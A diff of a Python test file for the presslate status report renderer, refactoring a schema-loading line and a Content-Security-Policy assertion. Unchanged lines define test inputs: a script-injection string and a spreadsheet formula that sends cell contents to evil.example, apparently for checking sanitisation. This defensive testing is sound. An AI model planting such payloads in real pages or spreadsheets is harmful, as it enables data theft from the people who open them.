@@ -17,7 +17,8 @@ from presslate.report.options import GROUPINGS, RenderOptions
 from presslate.report.renderers import RENDERERS, render_status
 from presslate.report.service import build_status
 
-SCHEMA = json.loads((Path(__file__).resolve().parents[2] / "docs" / "status-json-schema.json").read_text(encoding="utf-8"))
+SCHEMA_PATH = Path(__file__).resolve().parents[2] / "docs" / "status-json-schema.json"
+SCHEMA = json.loads(SCHEMA_PATH.read_text(encoding="utf-8"))
 SCRIPT = "<script>document.title='PWNED';document.body.innerHTML='PWNED'</script>"
 FORMULA_TITLE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
 
@@ -107,7 +108,8 @@ def test_html_is_self_contained(report_data):
     assert not [el for el in tree.iter() if isinstance(el.tag, str) and (el.get("src") or el.get("href"))]
     assert "http://" not in page and "https://" not in page and "url(" not in page
     assert tree.xpath("//meta[@name='viewport']") and tree.xpath("//style")
-    assert tree.xpath("//meta[@http-equiv='Content-Security-Policy']")[0].get("content").startswith("default-src 'none'")
+    policy = tree.xpath("//meta[@http-equiv='Content-Security-Policy']")[0].get("content")
+    assert policy.startswith("default-src 'none'")
 
 
 def test_html_has_progress_bars_release_table_and_language_names(report_data):
